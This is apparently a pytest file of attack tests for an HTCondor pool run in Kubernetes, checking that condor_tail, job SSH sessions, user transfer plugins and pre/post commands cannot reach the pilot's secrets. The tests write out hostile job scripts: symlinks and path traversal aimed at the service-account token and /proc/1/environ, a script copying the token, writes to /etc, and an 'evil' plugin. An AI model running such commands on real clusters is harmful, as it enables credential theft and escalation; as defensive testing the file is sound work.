"""Attacks by way of HTCondor's own tools: sessions, a look at running output, plugins, commands beside the job."""

import json
import shlex
from concurrent.futures import ThreadPoolExecutor
from typing import Any, cast

import pytest

from lab.jobs import BAD_NEWS
from lab.oci import Pusher
from tests.attacks.ground import ARSENAL, BASELINE, BASELINE_FIRST, GROUPS, MARK, RESTRICTED, Ground, packed
from tests.e2e.pool import result, runs, until

TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 -- where one is


@pytest.mark.landing
@BASELINE_FIRST  # the starter is nearly root there
def test_condor_tail_follows_no_link_to_the_pilots_files(ground: Ground) -> None:
    script = (
        f"ln -s {TOKEN_PATH} stolen; ln -s /proc/1/environ env; mkfifo pipe; mkdir d; ln -s / d/root; "
        f"echo mine >own; echo first; rm -f _condor_stderr; ln -s {TOKEN_PATH} _condor_stderr; exec sleep 603"
    )
    jobs = ground.alice(script, transfer_output_files="own, stolen, env, pipe, d")
    jobs.wait("ExecuteEvent")
    runs(ground, "sleep 603")
    job = f"{jobs.cluster}.0"

    def tail(*options: str) -> str:
        words = shlex.join(options)
        return ground.lab.access_point("alice", f"timeout 8 condor_tail {words} 2>&1 || true")

    until(lambda: "first" in tail(job), "the output is seen", 60)
    until(lambda: "mine" in tail("-no-stdout", job, "own"), "another file is seen", 60)
    names = ("stolen", "env", f"d/root{TOKEN_PATH}", TOKEN_PATH, f"../../../../../..{TOKEN_PATH}", "pipe", "own")
    looks = [("-no-stdout", "-stderr", job), *(("-no-stdout", job, name) for name in names)]
    with ThreadPoolExecutor(len(looks)) as threads:  # some of them wait for what never comes
        seen = [*threads.map(lambda look: tail(*look), looks)]
    assert not [words for words in seen if "eyJ" in words or "POD_UID" in words or "CONDOR_CONFIG=" in words], seen
    jobs.command("condor_rm")
    ground.is_fit()


@BASELINE
def test_a_session_leads_to_nothing_of_the_pilots(ground: Ground, pusher: Pusher) -> None:
    """Of an image that puts its jobs into the group of the Docker socket, among others, if Kubernetes lets it."""
    image = pusher.push_with(ground.lab.image, "attacks-groups", GROUPS).partition("@")[0]
    jobs = ground.alice(
        "while [ ! -e go ]; do sleep 0.1; done; python3 ./arsenal.pyz through_sessions > seen; : >done; "
        "while [ ! -e end ]; do sleep 0.1; done; cat seen groups; id -G",
        container_image=f"docker://{image}",
    )
    jobs.wait("ExecuteEvent")
    until(ground.processes, "the job runs")
    leave = f"(setsid sh -c 'trap \"\" TERM HUP; while :; do sleep 1; : {MARK}; done' >/dev/null 2>&1 &)"
    inside = (
        f"id -G >groups; echo {MARK} >/tmp/{MARK}; {leave}; : >go; "
        "while [ ! -e done ]; do sleep 0.1; done; : >end; sleep 604"
    )
    command = f"condor_ssh_to_job -auto-retry {jobs.cluster}.0 {shlex.quote(inside)} 2>&1; true"
    ground.lab.access_point("alice", command, timeout=120)
    done = result(jobs, timeout=120)
    seen, *groups = done.text.splitlines()
    assert json.loads(seen) == {"through_sessions": []}
    assert groups == ["65534", "65534"]  # the session's, and the job's
    ground.is_fit()


OF_PLUGINS = (
    "signals", "ptrace", "memory_of_others", "proc_of_others", "settings_of_others", "namespaces", "docker_socket",
    "exchange", "kubelets_files", "forged_reports", "keyrings", "kernel_settings", "command_lines", "secrets",
)  # fmt: skip


@BASELINE
def test_a_plugin_of_a_users_gains_nothing_in_the_pilot_container(ground: Ground) -> None:
    jobs = ground.alice(
        "cat loot",
        transfer_plugins=f"evil={ARSENAL}",
        transfer_input_files=f"{ARSENAL}, evil://host/{'+'.join(OF_PLUGINS)}/loot",
    )
    done = result(jobs, timeout=180)
    found = json.loads(done.stdout)
    assert found["uid"] == 65534
    gained = found["gained"]
    # Where secrets are mounted there, the table of mounts says; what is in them, nobody but root can read.
    # Whoever is in the same session may be told to go on, which nothing is stopped by (kill(2)).
    gained["signals"] = [one for one in gained["signals"] if not one.startswith("SIGCONT ")]
    gained["secrets"] = [one for one in gained["secrets"] if " - tmpfs " not in one]
    assert [f"{name}: {what}" for name, what in gained.items() if what] == []
    assert "TOKEN" not in found["names"]
    assert not [name for name in found["names"] if name.startswith(("KUBERNETES_", "POD_", "K8SPILOT_"))]
    ground.is_fit()


@pytest.mark.landing
@BASELINE
def test_a_plugins_daemon_does_not_live_to_see_the_next_jobs_files(ground: Ground) -> None:
    """The next job's files have the daemon's uid. It starts after its own job, and writes to files of the next one."""
    jobs = ground.alice(
        "echo spoils >loot",
        transfer_plugins=f"evil={ARSENAL}",
        transfer_output_files="loot",
        transfer_output_remaps='"loot = evil://host/none/loot"',
    )
    result(jobs)
    # Each of its processes lives for a millisecond: one look may miss it.
    daemons = "for look in $(seq 100); do cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '; done"
    assert MARK in ground.inside(daemons), "there is no daemon, so that this shows nothing"
    ground.is_fit()
    assert MARK not in ground.inside(daemons)
    # It has put something into every folder in which it could.
    assert ground.inside(f"find / '(' -path /proc -o -path /sys ')' -prune -o -name '*{MARK}*' -print") == ""


@RESTRICTED
def test_sessions_and_plugins_of_users_are_refused_where_they_would_be_htcondor(ground: Ground) -> None:
    jobs = ground.alice("exec sleep 605")
    jobs.wait("ExecuteEvent")
    ask = f"timeout 60 condor_ssh_to_job {jobs.cluster}.0 id 2>&1; true"
    until(lambda: "ENABLE_SSH_TO_JOB" in ground.lab.access_point("alice", ask), "sessions are refused", 60)
    jobs.command("condor_rm")
    brings = ground.alice(
        "true", transfer_plugins=f"evil={ARSENAL}", transfer_input_files=f"{ARSENAL}, evil://host/x/y"
    )
    takes = ground.alice(
        "echo spoils >loot",
        transfer_plugins=f"evil={ARSENAL}",
        transfer_output_files="loot",
        transfer_output_remaps='"loot = evil://host/none/loot"',
    )
    ground.is_fit()
    for one in (brings, takes):  # they are left to other execution points
        one.look()
        assert [event.kind for event in one.events] == ["SubmitEvent"]


def test_commands_beside_the_job_run_nowhere_where_they_should_not(ground: Ground) -> None:
    """+PreCmd, +PostCmd and a debugger beside the job would run in the pilot container: if at all, as nobody."""
    script = f"#!/bin/sh\nid -u >pre; cat {TOKEN_PATH} >stolen 2>/dev/null; touch /k8spilot/evil /etc/evil; exit 0\n"
    jobs = ground.shell(
        "cat pre stolen 2>/dev/null; exit 0",
        files={"pre.sh": script, ARSENAL: packed()},
        transfer_input_files=f"pre.sh, {ARSENAL}",
        **cast("dict[str, Any]", {**ground.python, "+PreCmd": '"pre.sh"', "+PostCmd": '"pre.sh"'}),
    )
    jobs.wait("JobHeldEvent", "JobTerminatedEvent", ignore=BAD_NEWS, timeout=120)
    out = jobs.files().get("out.0", b"").decode()
    assert out.split() in ([], ["65534"])
    assert ground.inside("ls /k8spilot/evil /etc/evil 2>/dev/null; true") == ""
    ground.is_fit()
